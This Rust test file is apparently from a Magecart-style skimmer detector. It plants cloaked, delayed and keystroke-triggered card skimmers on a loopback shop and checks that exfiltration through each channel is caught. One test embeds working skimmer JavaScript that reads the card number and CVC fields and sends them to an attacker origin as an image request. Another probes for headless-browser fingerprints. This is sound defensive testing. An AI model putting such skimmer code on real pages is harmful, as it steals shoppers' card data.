//! Issue 3 end to end: skimmers that hide from crawlers are caught by acting like a shopper,
//! and the canary card number is caught leaving the page on every channel. Real Chromium, the
//! shop on loopback with four origins (shop, payment provider, vendor, attacker), the real
//! binary, real SQLite and baseline files.

use crate::util::{describe, findings_of, Workspace};
use skimwatch::capture::canary::luhn_valid;
use skimwatch::model::{Finding, FindingKind, PageStatus, ScanReport, ScriptKind, Severity};
use skimwatch_testshop::{Origin, Resource, Shop};

/// The express checkout (card fields on the shop page), approved while clean.
fn approved_express(extra: &str) -> Workspace {
    let shop = Shop::start_in_background().expect("start the test shop");
    let url = shop.serve_express_checkout();
    let ws = Workspace::with_page_config(shop, "express", &url, extra);
    ws.approved_baseline();
    ws
}

/// The one `card_exfiltration` finding to `host` by `channel`, critical, with its checks.
fn exfiltration<'a>(report: &'a ScanReport, host: &str, channel: &str) -> &'a Finding {
    let f = any_exfiltration(report, host, channel);
    assert_eq!(f.severity, Severity::Critical);
    f
}

/// The one `card_exfiltration` finding to `host` by `channel`, whatever its severity.
fn any_exfiltration<'a>(report: &'a ScanReport, host: &str, channel: &str) -> &'a Finding {
    findings_of(report, FindingKind::CardExfiltration)
        .into_iter()
        .find(|f| f.destination.as_ref().is_some_and(|d| d.host == host && d.channel == channel))
        .unwrap_or_else(|| panic!("no card_exfiltration to {host} by {channel}:\n{}", describe(report)))
}

fn script_id(f: &Finding) -> &str {
    &f.script.as_ref().unwrap_or_else(|| panic!("finding names no script: {f:#?}")).id
}

fn attacker_received(ws: &Workspace, method: &str) -> bool {
    ws.shop.requests_to(Origin::Attacker).iter().any(|r| r.method == method)
}

#[test]
fn skimmer_cloaked_from_headless_user_agents_is_caught_sending_by_image() {
    let ws = approved_express("settle = \"1s\"");
    // Rescan of the untouched page is clean: field accesses are deterministic and approved.
    let (code, clean) = ws.scan(&[]);
    assert_eq!((code, clean.pages[0].findings.len()), (0, 0), "{}", describe(&clean));
    assert!(clean.pages[0].field_access.iter().any(|a| a.script.as_ref().unwrap().id == "self:/static/js/express.js"));

    let planted = ws.shop.cloak_skimmer_by_user_agent();
    let (code, report) = ws.scan(&[]);
    assert_eq!(code, 1);
    let chat = planted.modified.as_str();
    let f = exfiltration(&report, &ws.shop.host(Origin::Attacker), "image");
    assert_eq!(script_id(f), chat);
    // encodeURIComponent(btoa(…)): URL-encoding changes nothing when the base64 of this scan's
    // shopper has no `+`, `/` or `=` (the shopper varies per scan), so either layer list is right.
    let encoding = f.destination.as_ref().unwrap().encoding.as_deref();
    assert!(matches!(encoding, Some("url+base64") | Some("base64")), "{f:#?}");
    let altered = findings_of(&report, FindingKind::AlteredScript);
    assert!(altered.iter().any(|f| script_id(f) == chat), "{}", describe(&report));
    // It read the card fields, which the approved chat widget never did.
    let reads: Vec<_> =
        findings_of(&report, FindingKind::PaymentFieldAccess).into_iter().filter(|f| script_id(f) == chat).collect();
    assert!(reads.iter().any(|f| f.access.as_ref().unwrap().field == "#cc-number"), "{}", describe(&report));
    // The server saw no headless user agent.
    let uas: Vec<String> =
        ws.shop.requests_to(Origin::Vendor).iter().filter_map(|r| r.header("user-agent").map(String::from)).collect();
    assert!(!uas.is_empty() && uas.iter().all(|u| !u.contains("Headless")), "{uas:?}");
    assert!(attacker_received(&ws, "GET"));
}

#[test]
fn skimmer_dormant_under_webdriver_is_caught_sending_by_fetch_even_once_approved() {
    let ws = approved_express("settle = \"1s\"");
    let planted = ws.shop.skimmer_dormant_under_webdriver();
    let (_, report) = ws.scan(&[]);
    let f = exfiltration(&report, &ws.shop.host(Origin::Attacker), "fetch");
    assert_eq!(script_id(f), planted.modified);
    assert_eq!(f.destination.as_ref().unwrap().method.as_deref(), Some("POST"));
    assert!(findings_of(&report, FindingKind::AlteredScript).iter().any(|f| script_id(f) == planted.modified));
    assert!(attacker_received(&ws, "POST"));

    // Someone approves everything; the altered script is now in the baseline, but card data
    // still leaves for a host not allowed to receive it: still critical.
    ws.skimwatch()
        .args(["baseline", "approve", "--all", "--by", "bob", "--reason", "vendor update"])
        .assert()
        .success();
    let (code, again) = ws.scan(&[]);
    assert_eq!(code, 1);
    assert!(findings_of(&again, FindingKind::AlteredScript).is_empty(), "{}", describe(&again));
    let leak = exfiltration(&again, &ws.shop.host(Origin::Attacker), "fetch");
    assert_eq!(script_id(leak), planted.modified);
    // And it cannot be approved away: the allow-list is a reviewed config change.
    let out = ws
        .skimwatch()
        .args(["baseline", "approve", "--finding", &leak.id, "--by", "bob", "--reason", "x"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("card_data_hosts"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn skimmer_injected_six_seconds_after_load_is_caught_sending_by_beacon() {
    // Watch 10 s from load (the default; the test workspace shortens it for other tests).
    let ws = approved_express("settle = \"10s\"");
    let planted = ws.shop.inject_skimmer_after_delay();
    let (_, report) = ws.scan(&[]);
    let payload = planted.added.unwrap();
    let new = findings_of(&report, FindingKind::NewScript);
    let late = new
        .iter()
        .find(|f| script_id(f) == payload)
        .unwrap_or_else(|| panic!("the late script is inventoried:\n{}", describe(&report)));
    assert_eq!(late.initiator.as_deref(), Some(planted.modified.as_str()), "inserted by promo.js");
    let f = exfiltration(&report, &ws.shop.host(Origin::Attacker), "beacon");
    assert_eq!(script_id(f), payload);
    assert!(findings_of(&report, FindingKind::AlteredScript)
        .iter()
        .any(|f| script_id(f) == "self:/static/js/promo.js"));
    assert!(attacker_received(&ws, "POST"));
}

#[test]
fn skimmer_fetched_on_first_keystroke_is_caught_sending_by_websocket() {
    let ws = approved_express("settle = \"1s\"");
    let planted = ws.shop.skimmer_loaded_on_first_keystroke();
    let (_, report) = ws.scan(&[]);
    let payload = planted.added.unwrap();
    let new = findings_of(&report, FindingKind::NewScript);
    let kb = new.iter().find(|f| script_id(f) == payload).unwrap_or_else(|| panic!("{}", describe(&report)));
    assert!(kb.initiator.as_deref().is_some_and(|i| i.starts_with("inline:")), "{:?}", kb.initiator);
    assert!(new.iter().any(|f| f.script.as_ref().unwrap().kind == ScriptKind::Inline), "the keystroke hook");
    let f = exfiltration(&report, &ws.shop.host(Origin::Attacker), "websocket");
    assert_eq!(script_id(f), payload);
    let d = f.destination.as_ref().unwrap();
    assert_eq!((d.found_in.as_deref(), d.encoding.as_deref()), (Some("frame"), Some("hex")));
    assert!(d.url.starts_with("ws://"));
    assert!(attacker_received(&ws, "WS"), "the attacker's socket got the card");
}

#[test]
fn skimmer_for_first_visits_only_is_caught_on_every_scan_sending_by_xhr() {
    let ws = approved_express("settle = \"1s\"");
    ws.shop.skimmer_for_first_visit_only();
    for _ in 0..2 {
        ws.shop.clear_requests();
        let (_, report) = ws.scan(&[]);
        let inline: Vec<_> = findings_of(&report, FindingKind::NewScript)
            .into_iter()
            .filter(|f| f.script.as_ref().unwrap().kind == ScriptKind::Inline)
            .collect();
        assert_eq!(inline.len(), 1, "{}", describe(&report));
        let f = exfiltration(&report, &ws.shop.host(Origin::Attacker), "xhr");
        assert_eq!(script_id(f), script_id(inline[0]));
        assert_eq!(f.destination.as_ref().unwrap().encoding.as_deref(), Some("reversed"));
        // Every scan is a first visit: the page request carries no cookie, later ones do.
        let shop_requests = ws.shop.requests_to(Origin::Shop);
        let page = shop_requests.iter().find(|r| r.path == "/checkout/express").unwrap();
        assert!(page.header("cookie").is_none(), "fresh profile per scan");
        assert!(shop_requests.iter().any(|r| r.header("cookie").is_some_and(|c| c.contains("visited=1"))));
    }
}

#[test]
fn card_number_to_the_allow_listed_payment_provider_is_no_finding_and_no_order_is_placed() {
    let shop = Shop::start_in_background().expect("start the test shop");
    let url = shop.checkout_url();
    let payment = shop.host(Origin::Payment);
    let ws = Workspace::with_page_config(shop, "checkout", &url, "settle = \"1s\"\ninteract = \"type-and-submit\"");
    // Without an allow-list, the provider's own tokenisation is card data leaving the page:
    // its frame sent it to its own origin, `high` while the page was never approved.
    let (_, first) = ws.scan(&[]);
    let f = any_exfiltration(&first, &payment, "fetch");
    assert_eq!(f.severity, Severity::High);
    assert!(f.destination.as_ref().unwrap().own_origin);
    assert_eq!(
        script_id(f),
        format!(
            "{}/hosted-fields|{}",
            ws.shop.base(Origin::Payment),
            ws.shop.url(Origin::Payment, "/static/fields.js")
        )
    );
    let interaction = first.pages[0].interaction.as_ref().unwrap();
    assert!(interaction.submitted, "{interaction:?}");
    assert!(interaction.blocked.iter().any(|b| b.contains("/api/orders")), "{interaction:?}");
    // The provider did get a Luhn-valid test number; the shop got no order.
    let tokens = ws.shop.requests_to(Origin::Payment).into_iter().find(|r| r.path == "/v1/tokens").expect("tokenised");
    let body: serde_json::Value = serde_json::from_str(&tokens.body).unwrap();
    let number = body["number"].as_str().unwrap();
    assert!((15..=16).contains(&number.len()) && luhn_valid(number), "{number}");
    assert!(!ws.shop.requests_to(Origin::Shop).iter().any(|r| r.path == "/api/orders"), "no order placed");

    // Allow the provider: no finding, the flow is still in the report as evidence.
    let text = std::fs::read_to_string(&ws.config).unwrap();
    std::fs::write(
        &ws.config,
        format!(
            "{text}card_data_hosts = [\"{}:*\"]\n",
            ws.shop.base(Origin::Payment).trim_start_matches("http://").split(':').next().unwrap()
        ),
    )
    .unwrap();
    ws.skimwatch()
        .args(["baseline", "approve", "--all", "--by", "alice", "--reason", "initial inventory"])
        .assert()
        .success();
    let (code, report) = ws.scan(&[]);
    assert_eq!(report.pages[0].status, PageStatus::Ok);
    assert!(findings_of(&report, FindingKind::CardExfiltration).is_empty(), "{}", describe(&report));
    assert_eq!((code, report.pages[0].findings.len()), (0, 0), "{}", describe(&report));
    let allowed = &report.pages[0].card_data;
    assert!(
        allowed.iter().any(|l| l.allowed && l.destination.host == payment && l.destination.channel == "fetch"),
        "{allowed:?}"
    );
}

#[test]
fn shopper_profiles_leave_no_automation_tells() {
    let shop = Shop::start_in_background().expect("start the test shop");
    const PROBE: &str = r#"<!DOCTYPE html><html><body><script>
var c = document.createElement('canvas').getContext('webgl'), e = c && c.getExtension('WEBGL_debug_renderer_info');
navigator.sendBeacon('/fp', JSON.stringify({
  ua: navigator.userAgent, webdriver: navigator.webdriver, languages: navigator.languages, plugins: navigator.plugins.length,
  gl: e ? c.getParameter(e.UNMASKED_RENDERER_WEBGL) : null, glv: e ? c.getParameter(e.UNMASKED_VENDOR_WEBGL) : null,
  screen: [screen.width, screen.height], outer: [outerWidth, outerHeight], tz: Intl.DateTimeFormat().resolvedOptions().timeZone,
  touch: navigator.maxTouchPoints, cores: navigator.hardwareConcurrency,
  brands: navigator.userAgentData ? navigator.userAgentData.brands.map(function (b) { return b.brand; }) : [],
  native: String(HTMLInputElement.prototype.__lookupGetter__('value')).indexOf('[native code]') > 0
    && String(EventTarget.prototype.addEventListener).indexOf('[native code]') > 0
}));
</script></body></html>"#;
    shop.set_resource(Origin::Shop, "/fp-desktop", Resource::html(PROBE));
    shop.set_resource(Origin::Shop, "/fp-mobile", Resource::html(PROBE));
    let ws = Workspace::with_pages(shop, &[("desktop", String::new()), ("mobile", String::new())]);
    std::fs::write(
        &ws.config,
        format!(
            "[browser]\nsettle = \"500ms\"\n\n[[page]]\nname = \"desktop\"\nurl = \"{}\"\ninteract = \"none\"\n\n[[page]]\nname = \"mobile\"\nurl = \"{}\"\ninteract = \"none\"\nprofile = \"mobile\"\n",
            ws.shop.url(Origin::Shop, "/fp-desktop"),
            ws.shop.url(Origin::Shop, "/fp-mobile")
        ),
    )
    .unwrap();
    let (_, report) = ws.scan(&["--ephemeral"]);
    assert!(report.pages.iter().all(|p| p.status == PageStatus::Ok));
    let prints: Vec<(String, serde_json::Value)> = ws
        .shop
        .requests_to(Origin::Shop)
        .into_iter()
        .filter(|r| r.path == "/fp")
        .map(|r| (r.header("referer").unwrap_or_default().to_string(), serde_json::from_str(&r.body).unwrap()))
        .collect();
    assert_eq!(prints.len(), 2, "{prints:?}");
    for (referer, fp) in &prints {
        let ua = fp["ua"].as_str().unwrap();
        assert!(!ua.contains("Headless") && ua.contains("Chrome/"), "{fp}");
        assert_eq!(fp["webdriver"], false, "{fp}");
        assert_eq!(fp["languages"][0], "en-US");
        assert_ne!(fp["tz"], "UTC", "{fp}");
        let gl = format!("{} {}", fp["glv"], fp["gl"]);
        assert!(
            !gl.contains("SwiftShader") && !gl.contains("llvmpipe") && gl.contains("ANGLE") || gl.contains("Adreno"),
            "{fp}"
        );
        assert_ne!(fp["screen"], serde_json::json!([800, 600]), "{fp}");
        assert!(fp["outer"][0].as_i64().unwrap() > 0 && fp["outer"][1].as_i64().unwrap() > 0, "{fp}");
        assert!(fp["cores"].as_i64().unwrap() >= 4);
        assert!(fp["brands"].as_array().unwrap().iter().any(|b| b == "Google Chrome"), "{fp}");
        assert_eq!(fp["native"], true, "instrumented functions look native: {fp}");
        if referer.ends_with("/fp-mobile") {
            assert!(ua.contains("Android") && ua.contains("Mobile"), "{fp}");
            assert!(fp["touch"].as_i64().unwrap() > 0, "{fp}");
            assert_eq!(fp["screen"], serde_json::json!([412, 915]));
        } else {
            assert!(ua.contains("Windows NT 10.0"), "{fp}");
            assert_eq!(fp["plugins"], 5, "{fp}");
        }
    }
    // The monitor's own code is never inventoried.
    for p in &report.pages {
        assert_eq!(p.scripts.len(), 1, "only the page's inline script: {:?}", p.scripts);
    }
}

#[test]
fn configured_payment_field_that_matches_nothing_is_reported() {
    let shop = Shop::start_in_background().expect("start the test shop");
    let url = shop.serve_express_checkout();
    let ws = Workspace::with_page_config(
        shop,
        "express",
        &url,
        "settle = \"500ms\"\ninteract = \"none\"\npayment_fields = [\"#cc-number\", \"#iban\"]",
    );
    let (code, report) = ws.scan(&[]);
    assert_eq!(code, 1);
    assert_eq!(report.pages[0].unmatched_payment_fields, ["#iban"]);
    let missing = findings_of(&report, FindingKind::PaymentFieldMissing);
    assert_eq!(missing.len(), 1, "{}", describe(&report));
    assert_eq!(missing[0].access.as_ref().unwrap().field, "#iban");
    assert_eq!(missing[0].severity, Severity::Medium);
    assert_eq!(report.pages[0].interaction.as_ref().unwrap().fields_typed.len(), 0, "interact = none types nothing");
}

/// A tag that loads the skimmer only once the card has been typed (a tag manager's delayed
/// trigger): the skimmer listens for changes from then on, so only typing again wakes it.
#[test]
fn skimmer_loaded_after_the_typing_is_typed_to_again_and_caught() {
    let shop = Shop::start_in_background().expect("start the test shop");
    let attacker = shop.base(Origin::Attacker);
    shop.set_resource(
        Origin::Attacker,
        "/late.js",
        Resource::js(format!(
            "(function(){{var n=document.getElementById('cc-number'),c=document.getElementById('cc-csc'),sent=0;\
             function go(){{var d=n.value.replace(/\\D/g,'');if(!sent&&d.length>=15&&c.value.length>=3){{sent=1;new Image().src='{attacker}/late?c='+d;}}}}\
             n.addEventListener('change',go);c.addEventListener('change',go);}})();"
        )),
    );
    shop.set_resource(
        Origin::Attacker,
        "/late",
        Resource::new("image/svg+xml", "<svg xmlns=\"http://www.w3.org/2000/svg\"/>"),
    );
    let body = format!(
        "<h1>Pay</h1><form><input id=cc-number autocomplete=cc-number name=cardnumber>\
         <input id=cc-exp autocomplete=cc-exp name=exp><input id=cc-csc autocomplete=cc-csc name=cvc></form>\
         <script>(function wait(){{var n=document.getElementById('cc-number').value.replace(/\\D/g,''),c=document.getElementById('cc-csc').value;\
         if(n.length>=15&&c.length>=3){{setTimeout(function(){{var s=document.createElement('script');s.src='{attacker}/late.js';document.head.appendChild(s);}},600);}}\
         else setTimeout(wait,200);}})();</script>"
    );
    shop.set_resource(Origin::Shop, "/late-checkout", Resource::html(body));
    let url = shop.url(Origin::Shop, "/late-checkout");
    let ws = Workspace::with_page_config(shop, "late", &url, "interact = \"type\"\nsettle = \"300ms\"");
    let (_, report) = ws.scan(&[]);
    let host = ws.shop.host(Origin::Attacker);
    let i = report.pages[0].interaction.as_ref().expect("interaction");
    assert_eq!(i.retyped, 1, "{i:#?}");
    let sent = ws.shop.requests_to(Origin::Attacker);
    assert!(sent.iter().any(|r| r.path_only() == "/late"), "the skimmer did not send: {sent:#?}");
    any_exfiltration(&report, &host, "image");
}
